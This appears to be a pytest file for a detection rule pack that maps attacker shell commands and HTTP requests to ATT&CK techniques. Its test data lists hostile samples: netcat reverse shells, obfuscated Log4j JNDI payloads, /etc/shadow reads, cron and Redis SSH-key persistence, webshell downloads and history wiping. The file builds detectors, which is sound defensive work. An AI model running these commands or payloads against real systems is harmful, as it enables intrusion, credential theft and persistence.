"""The rule pack: what each rule is called and emits, what it must see and must not.

The rules are read with a plain YAML loader and the small interpreter below, so that the pack is held to the meaning of
its patterns (`re.search` on `str`) without a compiler in between.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING, Any, TypeAlias

import pytest
import yaml

if TYPE_CHECKING:
    from collections.abc import Iterator, Mapping

RULES = Path(__file__).parents[2] / "rules"
DEFAULT_FIELD = {"command": "command_text", "http_request": "raw_url"}

Payload: TypeAlias = dict[str, Any]
Emit: TypeAlias = tuple[str, str, str | None, float]


# --- The contract: ids, names, emits and evidence are compared with tags made before, so they never change by accident.


@dataclass(frozen=True)
class Contract:
    kind: str
    name: str
    emits: tuple[Emit, ...]
    evidence: tuple[str, ...] = ("command_text",)


CONTRACT = {
    "R0007": Contract(
        "http_request",
        "sqlmap_user_agent",
        (("TA0001", "T1190", None, 0.90), ("TA0043", "T1595", "T1595.002", 0.90)),
        ("user_agent", "raw_url"),
    ),
    "R0008": Contract(
        "http_request", "log4j_jndi", (("TA0001", "T1190", None, 0.95),), ("raw_url", "headers")
    ),
    "R0009": Contract(
        "http_request", "path_traversal", (("TA0001", "T1190", None, 0.85),), ("raw_url",)
    ),
    "R0010": Contract("command", "unix_shell_exec", (("TA0002", "T1059", "T1059.004", 0.90),)),
    "R0011": Contract("command", "scripting_interpreter_exec", (("TA0002", "T1059", None, 0.70),)),
    "R0012": Contract("command", "ingress_tool_transfer", (("TA0011", "T1105", None, 0.85),)),
    "R0013": Contract("command", "etc_passwd_read", (("TA0007", "T1083", None, 0.85),)),
    "R0014": Contract("command", "etc_shadow_read", (("TA0006", "T1003", "T1003.008", 0.95),)),
    "R0015": Contract(
        "command",
        "suid_search",
        (("TA0007", "T1083", None, 0.85), ("TA0004", "T1548", "T1548.001", 0.95)),
    ),
    "R0016": Contract("command", "recursive_find", (("TA0007", "T1083", None, 0.65),)),
    "R0017": Contract(
        "command",
        "network_service_scan",
        (("TA0007", "T1046", None, 0.90), ("TA0043", "T1595", None, 0.90)),
    ),
    "R0018": Contract("command", "system_info_discovery", (("TA0007", "T1082", None, 0.70),)),
    "R0019": Contract("command", "user_discovery", (("TA0007", "T1033", None, 0.70),)),
    "R0020": Contract("command", "network_config_discovery", (("TA0007", "T1016", None, 0.75),)),
    "R0021": Contract(
        "command", "network_connections_discovery", (("TA0007", "T1049", None, 0.75),)
    ),
    "R0022": Contract(
        "command",
        "ldap_account_discovery",
        (("TA0007", "T1087", "T1087.002", 0.90), ("TA0007", "T1482", None, 0.85)),
    ),
    "R0023": Contract("command", "smb_share_discovery", (("TA0007", "T1135", None, 0.90),)),
    "R0024": Contract(
        "command", "local_account_creation", (("TA0003", "T1136", "T1136.001", 0.95),)
    ),
    "R0025": Contract("command", "cron_persistence", (("TA0003", "T1053", "T1053.003", 0.90),)),
    "R0026": Contract(
        "command", "redis_ssh_key_persistence", (("TA0003", "T1098", "T1098.004", 0.90),)
    ),
    "R0027": Contract("command", "webshell_install", (("TA0003", "T1505", "T1505.003", 0.90),)),
    "R0028": Contract(
        "command", "clear_command_history", (("TA0005", "T1070", "T1070.003", 0.90),)
    ),
    "R0029": Contract("command", "sudo_abuse", (("TA0004", "T1548", "T1548.003", 0.75),)),
}


@cache
def rule(rule_id: str) -> Payload:
    (path,) = RULES.glob(f"*/{rule_id}_*.yaml")
    loaded: Payload = yaml.safe_load(path.read_text(encoding="utf-8"))
    return loaded


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_a_rule_keeps_its_contract(rule_id: str) -> None:
    contract, found = CONTRACT[rule_id], rule(rule_id)
    assert (RULES / contract.kind / f"{rule_id}_{contract.name}.yaml").is_file()
    assert (found["rule_id"], found["rule_version"]) == (rule_id, 1)
    assert (found["name"], found["applies_to"]) == (contract.name, [contract.kind])
    emits = [
        (e["tactic"], e["technique_id"], e.get("sub_technique_id"), e["confidence"])
        for e in found["emits"]
    ]
    assert emits == list(contract.emits)
    assert found["evidence_fields"] == list(contract.evidence)


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_a_rule_is_documented(rule_id: str) -> None:
    found = rule(rule_id)
    assert len(found["description"]) > 100
    assert found["false_positives"]
    technique = found["emits"][-1].get("sub_technique_id") or found["emits"][-1]["technique_id"]
    page = f"https://attack.mitre.org/techniques/{technique.replace('.', '/')}/"
    assert page in found["references"]
    assert len(found["references"]) >= 2
    assert found["last_reviewed"] < found["next_review"]


# --- A small interpreter of what the pack uses of the language.


def leaves(match: Mapping[str, Any]) -> Iterator[tuple[str, str | None, str]]:
    """Every pattern of a match as (name, field or None for the default, regular expression)."""
    if "patterns" in match:
        for name, pattern in match["patterns"].items():
            yield (name, None, pattern)
    elif "any" in match:
        for number, block in enumerate(match["any"]):
            for name, field, pattern in leaves(block):
                yield (f"{number}.{name}", field, pattern)
    else:
        patterns = match["pattern"]
        for number, pattern in enumerate([patterns] if isinstance(patterns, str) else patterns):
            yield (str(number), match.get("field"), pattern)


def values(payload: Mapping[str, Any], field: str) -> list[str]:
    match payload.get(field):
        case str(text):
            return [text]
        case dict(inner):
            return [text for text in inner.values() if isinstance(text, str)]
        case _:
            return []


def hits(rule_id: str, payload: Mapping[str, Any]) -> dict[str, bool]:
    default = DEFAULT_FIELD[CONTRACT[rule_id].kind]
    return {
        name: any(re.search(pattern, text) for text in values(payload, field or default))
        for name, field, pattern in leaves(rule(rule_id)["match"])
    }


def holds(condition: str, found: Mapping[str, bool]) -> bool:
    """`and` binds tighter than `or`; one level of parentheses is all that the pack needs."""
    inner = re.sub(r"\(([^()]*)\)", lambda m: "TRUE" if holds(m[1], found) else "FALSE", condition)
    known = {**found, "TRUE": True, "FALSE": False}
    return any(all(known[name] for name in arm.split(" and ")) for arm in inner.split(" or "))


def fires(rule_id: str, payload: Mapping[str, Any]) -> bool:
    found = hits(rule_id, payload)
    condition = rule(rule_id)["match"].get("condition")
    return holds(condition, found) if condition else any(found.values())


def as_payload(rule_id: str, example: str | Payload) -> Payload:
    if isinstance(example, str):
        return {DEFAULT_FIELD[CONTRACT[rule_id].kind]: example}
    return example


def examples(rule_id: str, wanted: str) -> list[Payload]:
    return [as_payload(rule_id, example) for example in rule(rule_id)["examples"][wanted]]


# --- Examples


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_examples_hold(rule_id: str) -> None:
    missed = [e for e in examples(rule_id, "match") if not fires(rule_id, e)]
    extra = [e for e in examples(rule_id, "no_match") if fires(rule_id, e)]
    assert (missed, extra) == ([], [])
    assert len(examples(rule_id, "match")) >= 6
    assert len(examples(rule_id, "no_match")) >= 6


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_every_pattern_is_reached_by_an_example(rule_id: str) -> None:
    seen = [hits(rule_id, example) for example in examples(rule_id, "match")]
    assert [name for name in seen[0] if not any(found[name] for found in seen)] == []


@pytest.mark.parametrize("rule_id", CONTRACT)
def test_examples_name_no_address_of_somebody(rule_id: str) -> None:
    documentation = ("192.0.2.", "198.51.100.", "203.0.113.", "127.0.0.1")
    text = (RULES / CONTRACT[rule_id].kind / f"{rule_id}_{CONTRACT[rule_id].name}.yaml").read_text()
    addresses = re.findall(r"(?<![\d.])\d{1,3}(?:\.\d{1,3}){3}(?![\d.])", text)
    assert [a for a in addresses if not a.startswith(documentation)] == []


# --- What the predecessor of this pack is known to miss.

MENDED: dict[str, tuple[str, str | Payload]] = {
    "lsb_release_with_a_flag": ("R0018", "lsb_release -a"),
    "hostnamectl_with_a_flag": ("R0018", "hostnamectl --static"),
    "useradd_option_with_a_value": ("R0024", "useradd -m -s /bin/bash x"),
    "adduser_option_with_an_empty_value": ("R0024", 'adduser --gecos "" x'),
    "whoami_after_a_separator": ("R0019", "x; whoami"),
    "whoami_after_blanks": ("R0019", "   whoami"),
    "whoami_on_the_second_line": ("R0019", "cd /tmp\nwhoami"),
    "id_by_its_path_after_sudo_options": ("R0019", "sudo -n -u root /usr/bin/id"),
    "crontab_from_a_pipe": ("R0025", 'echo "* * * * * /tmp/x" | crontab -'),
    "crontab_from_a_pipe_for_a_user": ("R0025", "cat /tmp/x | sudo crontab -u bob -"),
    "php_run": ("R0011", "php -r 'phpinfo();'"),
    "perl_with_a_module_first": ("R0011", "perl -MSocket -e 'print 1'"),
    "jndi_in_a_header": (
        "R0008",
        {"raw_url": "/", "headers": {"X-Api-Version": "${jndi:ldap://192.0.2.1/a}"}},
    ),
    "jndi_with_a_lower_look_up": ("R0008", "/?q=${${lower:j}ndi:ldap://192.0.2.1/a}"),
    "jndi_spelt_with_defaults": ("R0008", "/?q=${${::-j}${::-n}${::-d}${::-i}:rmi://192.0.2.1/a}"),
    "jndi_nested_in_a_header": (
        "R0008",
        {"raw_url": "/", "headers": {"Referer": "${j${env:X:-n}d${upper:i}:${::-l}dap://x}"}},
    ),
    "jndi_percent_encoded": ("R0008", "/?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"),
    "shadow_with_sudo_and_a_path": ("R0014", "sudo -n /bin/cat /etc/shadow"),
    "passwd_with_egrep": ("R0013", "/bin/egrep bash /etc/passwd"),
    "wget_by_its_path": ("R0012", "/usr/bin/wget https://files.example.com/a"),
    "wget_of_busybox_without_a_scheme": ("R0012", "/bin/busybox wget 192.0.2.1/a.sh"),
    "tftp_get": ("R0012", "tftp -g -r a.sh 192.0.2.1"),
    "netcat_exec_after_the_address": ("R0010", "busybox nc 192.0.2.1 4444 -e /bin/sh"),
    "netcat_probe_after_other_flags": ("R0017", "nc -n -w 1 -z 192.0.2.1 22"),
    "ip_with_options": ("R0020", "sudo ip -4 -br addr"),
    "lsof_flags_in_a_group": ("R0021", "lsof -nPi"),
    "smbclient_flags_in_a_group": ("R0023", "smbclient -NL 192.0.2.1"),
    "redis_inside_a_session": ("R0026", 'config set dir "/root/.ssh/"'),
    "web_root_by_download": ("R0027", "wget -O /var/www/html/x.php http://192.0.2.1/x"),
    "history_of_another_home": ("R0028", "cat /dev/null > /home/bob/.bash_history"),
    "sudo_after_a_separator": ("R0029", "id; sudo -n -l"),
}


@pytest.mark.parametrize("name", MENDED)
def test_a_known_miss_is_mended(name: str) -> None:
    rule_id, example = MENDED[name]
    assert fires(rule_id, as_payload(rule_id, example))


# --- Short command names count where a command stands, and nowhere else.

SHORT = {
    "R0010": "nc 192.0.2.1 4444 -e /bin/sh",
    "R0017": "nc -w 1 -z 192.0.2.1 22",
    "R0019": "id",
    "R0020": "route -n",
    "R0021": "ss -tln",
    "R0024": "useradd -m bob",
}
COMMAND_POSITIONS = [
    "{}",
    " \t {}",
    "true;{}",
    "true && {}",
    "false || {}",
    "sleep 1 & {}",
    "cd /tmp\n{}",
    "({})",
    "x=$({})",
    "diff <({}) b",
    "echo `{}`",
    "{{ {}; }}",
    "! {}",
    "sudo {}",
    "sudo -n -u root {}",
    "/usr/bin/sudo --non-interactive {}",
    "echo pw | sudo -S {}",
    "nohup {} &",
    "env -i LC_ALL=C {}",
    "LANG=C {}",
    "exec {}",
    "xargs {}",
    "busybox {}",
    "/bin/busybox {}",
    "command {}",
    "time {}",
    "watch -d {}",
    "timeout 5 {}",
    "if {}; then true; fi",
    "if true; then {}; else true; fi",
    "if true; then true; else {}; fi",
    "while {}; do true; done",
    "for i in 1 2; do {}; done",
]
OTHER_POSITIONS = [
    "echo {}",
    "man {}",
    "grep {} notes",
    "echo 'a {}'",
    "my{}",
    "./x-{}",
    "ls /opt/{}",
    "é{}",
    "a.{}",
    "sudoers {}",
    "echo todo {}",
    "NAME=x.{}",
]


@pytest.mark.parametrize("rule_id", SHORT)
@pytest.mark.parametrize("position", COMMAND_POSITIONS)
def test_a_short_name_counts_as_a_command(rule_id: str, position: str) -> None:
    assert fires(rule_id, {"command_text": position.format(SHORT[rule_id])})


@pytest.mark.parametrize("rule_id", SHORT)
@pytest.mark.parametrize("position", OTHER_POSITIONS)
def test_a_short_name_counts_nowhere_else(rule_id: str, position: str) -> None:
    assert not fires(rule_id, {"command_text": position.format(SHORT[rule_id])})
